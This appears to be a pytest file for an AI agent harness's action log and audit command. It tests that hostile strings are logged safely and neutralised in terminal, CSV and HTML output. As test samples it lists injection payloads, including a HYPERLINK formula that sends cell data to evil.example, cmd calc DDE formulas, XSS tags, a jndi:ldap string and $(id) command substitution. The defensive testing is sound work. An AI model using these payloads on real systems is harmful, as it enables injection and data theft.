"""Hostile contents: written, verified and read back as they were, and shown by every question so that no terminal obeys."""

from __future__ import annotations

import csv
import io
import json
import os
import random
import unicodedata
from collections.abc import Mapping
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from log_auditor import audited
from log_scene import DIGEST, Step, append_filled, filled, forged
from log_world import World, digest_of, reply
from rows import all_rows

from harness.actions import Action, JsonValue
from harness.app.command_line import actions
from harness.errors import LogError
from harness.gate.approval import Approval
from harness.gate.records import MAX_LOGGED_ARGUMENTS
from harness.gate.tool import ToolOutput
from harness.limits import Limits
from harness.log.action_log import ActionLog
from harness.log.reader import read_log
from harness.log.schema import RECORDS
from harness.log.verify import verify
from harness.log.vocabulary import Answer
from harness.messages import StopReason, ToolCall
from harness.policy.verdict import Verdict
from harness.redaction.redactor import Redactor
from harness.text.visible import visible

if TYPE_CHECKING:
    from program import Program

HOSTILE: Mapping[str, str] = {
    "escapes": "\x1b[2J\x1b[1;1H\x1b]0;title\x07\x1bP1$r\x1b\\ \x9b31m \x9d0;t\x9c",
    "bidi": "\u202etxet desrever\u202c \u2066isolated\u2069 \u200f\u061c",
    "newlines": "one\ntwo\r\nthree\rfour\x0bfive\x0csix\x85seven\u2028eight\u2029nine",
    "lone surrogates": "\ud800 \udfff \udc80",
    "NUL": "before\x00after",
    "a formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "a formula of another sort": "+cmd|' /C calc'!A0",
    "more formulas": "@SUM(1+1)*cmd|' /C calc'!A0",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><svg/onload=alert(1)>&lt;",
    "zero width": "a\u200bb\u200dc\ufeffd\u00ade",
    "tags": "x\U000e0041\U000e0042y",
    "a mark": "[redacted:known:01234567]",
    "JSON": '"}\n{"v":1,"seq":0,"kind":"session_ended"}\n',
    "formats": "%s%n%x ${jndi:ldap://x} {0.__class__} {{7*7}} $(id) `id`",
    "beyond the first plane": "\U0001f600 \U0010ffff",
    "backspaces": "safe\b\b\b\bevil\x7f",
    "nothing": "",
}
PLAIN = Redactor(key=b"k" * 32, shapes=False)


def yes(action: Action, verdict: Verdict) -> Approval:
    return Approval(answer=Answer.YES, by="person", words="".join(HOSTILE.values()))


class Saying:
    """A body that returns a text, and keeps what it was asked for."""

    def __init__(self, text: str) -> None:
        self.text = text

    def __call__(self, action: Action, *, done: bool) -> ToolOutput | None:
        return ToolOutput(content=self.text) if done else None


def hostile_world(folder: str, text: str) -> World:
    """Play a run in which one text stands wherever a model, a person or a tool can put it."""
    arguments = json.dumps({"do": text}, ensure_ascii=False)
    name = "".join(char for char in text if char not in "\x00/" and not "\ud800" <= char <= "\udfff")[:60] or "x"
    calls = (
        ToolCall(id="c1", name="free", arguments=arguments),
        ToolCall(
            id=f"c2 {text}".replace("/", "").replace("\x00", "")[:40], name="asked", arguments=json.dumps({"do": text})
        ),
        ToolCall(id="c3", name=text, arguments=arguments),
        ToolCall(id="c4", name="free", arguments=text),
        ToolCall(id="c6", name="refused", arguments=json.dumps({"do": f"{text} and more"})),
        ToolCall(id="c5", name="write_file", arguments=json.dumps({"path": name, "content": text})),
    )
    script = [reply(*calls, text=text), reply(text=text or "done")]
    return World(folder, script, approver=yes, body=Saying(text), redactor=PLAIN, limits=Limits(max_bad_calls=50))


@all_rows("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_text_is_logged_verified_and_read_back(tmp_path: Path, text: str) -> None:
    """In arguments, ids, names of tools, results, prompts, answers' words and file names."""
    world = hostile_world(str(tmp_path), text)
    assert world.play(text).stop is StopReason.COMPLETED
    world.log.close()
    raw = Path(world.path).read_bytes()
    assert raw.isascii()
    assert all(byte >= 0x20 or byte == 0x0A for byte in raw)
    found, audit = verify(world.path), audited(world.path)
    assert (found.problem, found.records, audit.breaches, raw.count(b"\n")) == (
        "",
        len(audit.records),
        [],
        found.records,
    )
    records = list(read_log(world.path))
    of = {kind: [record for record in records if record["kind"] == kind] for kind in RECORDS}
    proposed = {record["call"]: record for record in of["call_proposed"]}
    outcomes = {record["call"]: record for record in of["outcome"]}
    assert [record["text"] for record in of["user_message"]] == [text]
    assert [record["text"] for record in of["model_response"]] == [text, text or "done"]
    assert proposed[1]["arguments"] == json.dumps({"do": text}, ensure_ascii=False)
    assert proposed[1]["arguments_sha256"] == digest_of(json.dumps({"do": text}, ensure_ascii=False))
    assert (proposed[3]["tool"], proposed[4]["arguments"]) == (text, text)
    assert str(proposed[2]["id"]).startswith("c2 ")
    if outcomes[1]["status"] == "ok":
        assert outcomes[1]["content"] == text
    assert outcomes[3]["status"] == "invalid"
    for record in of["approval_answered"]:
        assert record["words"] == "".join(HOSTILE.values())
    if outcomes[6]["status"] == "ok":
        path = str(outcomes[6]["changed_path"])
        assert Path(path).read_bytes() == text.encode()
        assert json.loads(str(proposed[6]["arguments"]))["path"] == os.path.basename(path)


def test_eight_megabytes_of_arguments_are_kept_by_their_digest(tmp_path: Path) -> None:
    """The record holds the beginning and how long they are; what ran is the whole of it."""
    text = "\u202e=" + "x" * 8_000_000
    arguments = json.dumps({"do": text})
    ran: list[int] = []

    def body(action: Action, *, done: bool) -> ToolOutput | None:
        ran.append(len(str(action.request)))
        return ToolOutput(content="done") if done else None

    world = World(
        str(tmp_path), [reply(ToolCall(id="c1", name="free", arguments=arguments))], body=body, redactor=PLAIN
    )
    assert world.play().stop is StopReason.COMPLETED
    world.log.close()
    (proposed,) = [record for record in read_log(world.path) if record["kind"] == "call_proposed"]
    assert (proposed["arguments"], proposed["arguments_characters"]) == (arguments[:1000], len(arguments))
    assert proposed["arguments_sha256"] == digest_of(arguments)
    assert ran == [len(text)] * 2
    assert os.path.getsize(world.path) < 100_000
    assert (verify(world.path).problem, audited(world.path).breaches) == ("", [])


@all_rows("size", [MAX_LOGGED_ARGUMENTS - 10, MAX_LOGGED_ARGUMENTS, MAX_LOGGED_ARGUMENTS + 1])
def test_arguments_about_the_bound_are_kept_whole_or_by_their_digest(tmp_path: Path, size: int) -> None:
    arguments = '{"do": "' + "\u202e" * (size - 10) + '"}'
    world = World(str(tmp_path), [reply(ToolCall(id="c1", name="free", arguments=arguments))], redactor=PLAIN)
    world.play()
    world.log.close()
    (proposed,) = [record for record in read_log(world.path) if record["kind"] == "call_proposed"]
    assert len(arguments) == size
    assert (
        (proposed["arguments"] == arguments)
        == ("arguments_characters" not in proposed)
        == (size <= MAX_LOGGED_ARGUMENTS)
    )
    assert (verify(world.path).problem, audited(world.path).breaches) == ("", [])


@all_rows("opening", ["[", '{"do":', '[{"x":'], ids=["lists", "objects", "both"])
def test_deeply_nested_arguments_are_refused_and_well_recorded(tmp_path: Path, opening: str) -> None:
    arguments = opening * 10_000 + "1" + {"[": "]", '{"do":': "}", '[{"x":': "}]"}[opening] * 10_000
    world = World(str(tmp_path), [reply(ToolCall(id="c1", name="free", arguments=arguments))], redactor=PLAIN)
    assert world.play().stop is StopReason.COMPLETED
    world.log.close()
    records = {record["kind"]: record for record in read_log(world.path)}
    assert records["outcome"]["status"] == "invalid"
    assert records["call_proposed"]["arguments_sha256"] == digest_of(arguments)
    assert (verify(world.path).problem, audited(world.path).breaches) == ("", [])


def test_a_field_ten_thousand_deep_is_refused_before_it_is_written(tmp_path: Path) -> None:
    """Only whoever writes a program on the library could put one there."""
    value: JsonValue = 1
    for _ in range(10_000):
        value = [value]
    path = tmp_path / "log.jsonl"
    log = ActionLog.open(str(path), redactor=PLAIN)
    with pytest.raises(LogError, match="invalid JSON"):
        log.append("session_started", {"harness": "test", "deep": value})
    with pytest.raises(LogError, match="closed after an error"):
        append_filled(log, [("session_ended", {})])
    log.close()
    assert path.read_bytes() == b""


def test_a_result_of_eight_megabytes_is_a_record(tmp_path: Path) -> None:
    """A tool that does not bound its results: written, verified, read back."""
    text = "\x1b\u202e\ud800" * 2_700_000
    world = World(
        str(tmp_path),
        [reply(ToolCall(id="c1", name="free", arguments='{"do": "x"}'))],
        body=Saying(text),
        redactor=PLAIN,
    )
    assert world.play().stop is StopReason.COMPLETED
    world.log.close()
    (outcome,) = [record for record in read_log(world.path) if record["kind"] == "outcome"]
    assert outcome["content"] == text
    assert verify(world.path).problem == ""


# --- what is shown ---------------------------------------------------------------------------------------------------


def obeyed(text: str) -> list[str]:
    """Return the characters of a text that a terminal would obey, or that hide or reorder what stands beside them."""
    kept = {"\n", "\t"}
    categories = {char: unicodedata.category(char) for char in set(text) - kept}
    found = [char for char, category in categories.items() if category in ("Cc", "Cf", "Cs", "Zl", "Zp")]
    return sorted(repr(char) for char in found if char != visible(char)) + sorted(
        repr(char) for char in found if char == visible(char) and categories[char] != "Cf"
    )


def questions(log: str, left: str, right: str, report: str) -> dict[str, tuple[str, ...]]:
    """Return a way to ask each question of `harness audit` about a log; recover and prune are asked about copies."""
    return {
        "list": (),
        "list --all": ("--all",),
        "show": (log,),
        "show --full": (log, "--full"),
        "verify": (log,),
        "verify --all": ("--all",),
        "approvals": (log,),
        "denied": (log,),
        "denied --invalid": (log, "--invalid"),
        "unknown": (log,),
        "files": (log,),
        "reads": (log,),
        "outside": (log,),
        "stats": (log,),
        "diff": (left, right),
        "report": (log, "-o", report),
        "export --to csv": (log, "--to", "csv"),
        "export --to csv --content": (log, "--to", "csv", "--content"),
        "export --to jsonl": (log, "--to", "jsonl"),
        "export --to ocsf": (log, "--to", "ocsf"),
        "export --to otlp": (log, "--to", "otlp"),
        "prune": ("--older-than", "0", "--dry-run"),
        "prune --open --broken": ("--older-than", "0", "--dry-run"),
    }


JSON_TOO = (
    "list",
    "show",
    "verify",
    "approvals",
    "denied",
    "unknown",
    "files",
    "reads",
    "outside",
    "stats",
    "diff",
    "prune",
)


def put_into_the_state(program: Program, name: str, data: bytes) -> str:
    """Put a log where the program looks for those of its workspace, and return its path."""
    from harness.session.state import State

    folder = Path(State.of(program.environment).log_folder(str(program.workspace)))
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_bytes(data)
    return str(path)


def all_answers(program: Program, log: str, left: str, right: str, report: str) -> dict[str, tuple[int, str, str]]:
    """Ask everything, also with `--json`; return exit code, stdout and stderr by question."""
    asked = questions(log, left, right, report)
    told = {}
    for question, arguments in asked.items():
        action, *flags = question.split()
        ways: list[list[str]] = [[]] + ([["--json"]] if question in JSON_TOO else [])
        for way in ways:
            done = program.start("audit", action, *flags, *arguments, *way)
            out, err = done.communicate(timeout=120)
            told[" ".join([question, *way])] = (done.returncode, out.decode("utf-8"), err.decode("utf-8"))
    return told


def check_answers(told: Mapping[str, tuple[int, str, str]]) -> None:
    """Nobody is obeyed, nothing crashes, and JSON is JSON in ASCII."""
    wrong = []
    for question, (code, out, err) in told.items():
        printed = out.replace("\r\n", "\n") if "csv" in question else out  # RFC 4180, section 2: so a line of it ends
        if bad := obeyed(printed) + obeyed(err):
            wrong.append(f"{question} prints {bad[:10]}")
        nothing_there = code == 2 and err.endswith(
            ": no session\n"
        )  # the first line is no record: there is none to compare
        if not (code in (0, 1, 3, 4, 8) or nothing_there) or "internal error" in err or "Traceback" in err:
            wrong.append(f"{question} exits {code}: {err[-300:]}")
        if ("--json" in question or "jsonl" in question) and not (out + err).isascii():
            wrong.append(f"{question} prints more than ASCII")
        if "--json" in question or "jsonl" in question:
            for line in out.splitlines():
                json.loads(line)
    assert wrong == []


def test_every_action_is_asked() -> None:
    """A question that is added is asked here too."""
    asked = {question.split()[0] for question in questions("", "", "", "")}
    assert asked | {"sign", "recover"} == set(actions("audit"))


@pytest.fixture(scope="module")
def hostile_log(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """The log of runs in which every hostile text stands everywhere: one after the other, in one file."""
    folder = tmp_path_factory.mktemp("hostile")
    for text in HOSTILE.values():
        world = hostile_world(str(folder), text)
        world.play(text)
        world.log.close()
        for name in os.listdir(world.work):
            os.unlink(os.path.join(world.work, name))
    return (folder / "log.jsonl").read_bytes()


def test_audit_prints_no_control_sequences(program: Program, tmp_path: Path, hostile_log: bytes) -> None:
    """Every `harness audit ...` over real runs whose every text is hostile."""
    log = put_into_the_state(program, "20260101T000000Z-aaaaaa.jsonl", hostile_log)
    put_into_the_state(program, "20260102T000000Z-bbbbbb.jsonl", b"".join(forged(LOUD)))
    report = tmp_path / "report.html"
    first, second, *_ = audited(log).sessions
    told = all_answers(program, log, first, second, str(report))
    check_answers(told)
    assert told["verify"][0] == 4
    for question in ("list", "show", "verify", "approvals", "denied", "stats", "files", "diff"):
        assert len(told[question][1]) > 100, question
    check_csv(told["export --to csv --content"][1])
    check_html(report.read_text(encoding="utf-8"))


LOUD: tuple[Step, ...] = (
    ("session_started", dict.fromkeys(("harness", "mode", "model", "workspace", "user", "host"), "\x1b[2J\u202e")),
    ("user_message", {"text": "\x1b[2J"}),
    ("session_ended", {"stop": "\x1b[2J", "detail": "\u202e"}),
)


def check_csv(text: str) -> None:
    """No cell is one that a spreadsheet computes."""
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > len(HOSTILE)
    computed = [
        cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(cell)
    ]
    assert computed == []


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def check_html(page: str) -> None:
    """Nothing of what was logged is markup, and nothing on the page runs or loads."""
    assert not obeyed(page)
    lower = page.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in lower
    assert all(mark not in lower for mark in ("<script", "<img", "<svg/onload", "<iframe", "javascript:"))


# --- records that nobody ever wrote ----------------------------------------------------------------------------------


def _any_value(chance: random.Random) -> JsonValue:
    loud = chance.choice(list(HOSTILE.values()))
    values: list[JsonValue] = [
        None, True, -1, 10**30, 1.5, loud, loud * 50, [loud, 1, None], {loud: loud, "x": [1]}, [], {}, DIGEST,
        [[[[[loud]]]]],
    ]  # fmt: skip
    return chance.choice(values)


def _steps(chance: random.Random, *, spoil: float) -> list[Step]:
    """Return the records of sessions in which any field holds a hostile text, and some hold anything at all."""
    steps: list[Step] = []
    words = list(HOSTILE.values())
    state = {"kind": chance.choice(words), "mode": 0o644, "size": 7, "sha256": None}
    place = {
        "path": chance.choice(words), "how": chance.choice(words), "before": state, "after": None, "is_kept": True,
    }  # fmt: skip
    calls: list[tuple[str, dict[str, Any]]] = [
        ("call_proposed", {}), ("hook_answered", {"event": "before-call"}), ("decision", {"decision": "confirm"}),
        ("approval_asked", {}), ("approval_answered", {"answer": "yes"}), ("intent", {}),
        ("server_asked", {"fields": [{"name": chance.choice(words), "value": chance.choice(words)}], "answer": "accept"}),
        ("places_changed", {"places": [place], "not_looked_at": [chance.choice(words)], "place_count": 1}),
        ("places_answered", {"not_put_back": [{"path": chance.choice(words), "why": chance.choice(words)}]}),
        ("outcome", {"status": "ok"}),
    ]  # fmt: skip
    kinds: list[tuple[str, dict[str, Any]]] = [
        ("session_started", {}),
        ("grant", {"change": "kept", "scope": "workspace"}),
    ]
    for number in range(1, 4):
        tool = chance.choice(list(HOSTILE.values()))
        for kind, more in calls:
            of_tool = {"tool": tool} if "tool" in RECORDS[kind] else {}
            kinds.append((kind, {**more, **of_tool, "call": number}))
    others = (kind for kind in RECORDS if kind not in (*dict(calls), "grant") and not kind.startswith("session_"))
    kinds += [(kind, {}) for kind in others]
    kinds.append(("session_ended", {}))
    for kind, more in kinds:
        fields: dict[str, Any] = filled(kind, more)
        for name, word in RECORDS[kind].items():
            if name.removesuffix("?") in more:
                continue
            if word in ("text", "text|null"):
                fields[name.removesuffix("?")] = chance.choice(list(HOSTILE.values()))
            if chance.random() < spoil:
                fields[name.removesuffix("?")] = _any_value(chance)
        if chance.random() < spoil:
            fields[chance.choice(["more", "tool", "call", "session", "time", "v"])] = _any_value(chance)
        steps.append((kind, fields))
    return steps


@pytest.mark.forges_logs
@pytest.mark.parametrize(
    ("seed", "spoil"), [(1, 0.0), (2, 0.03), (3, 0.3)], ids=["of the schema", "a few not", "many not"]
)
def test_audit_trusts_no_record(program: Program, tmp_path: Path, seed: int, spoil: float) -> None:
    """A tampered or foreign log, in the right chain, that holds anything anywhere: answered or refused, in safe words."""
    chance = random.Random(seed)
    log = put_into_the_state(program, "20260101T000000Z-cccccc.jsonl", b"".join(forged(_steps(chance, spoil=spoil))))
    other = put_into_the_state(
        program, "20260102T000000Z-dddddd.jsonl", b"".join(forged(_steps(chance, spoil=spoil), session="t"))
    )
    report = tmp_path / "report.html"
    told = all_answers(program, log, log, other, str(report))
    check_answers(told)
    assert told["verify"][0] == (3 if spoil == 0.0 else 1)  # it holds a call that ran and was not allowed
    if report.exists():
        assert not obeyed(report.read_text(encoding="utf-8"))


@pytest.mark.parametrize("name", ["\x1b[2J.jsonl", "\u202elog.jsonl", "line\nbreak.jsonl", "<b>.jsonl", "=1+1.jsonl"])
def test_the_name_of_a_log_is_hostile_too(program: Program, name: str) -> None:
    """Files that somebody else put into the folder."""
    log = put_into_the_state(program, name, b"".join(forged(LOUD)))
    for arguments in (
        ("list", "--all"),
        ("list", "--all", "--json"),
        ("show", log),
        ("verify", log),
        ("verify", "--all"),
        ("stats", log),
    ):
        done = program.run("audit", *arguments)
        assert (obeyed(done.out) + obeyed(done.err), done.code in (0, 1, 4)) == ([], True), (arguments, done)
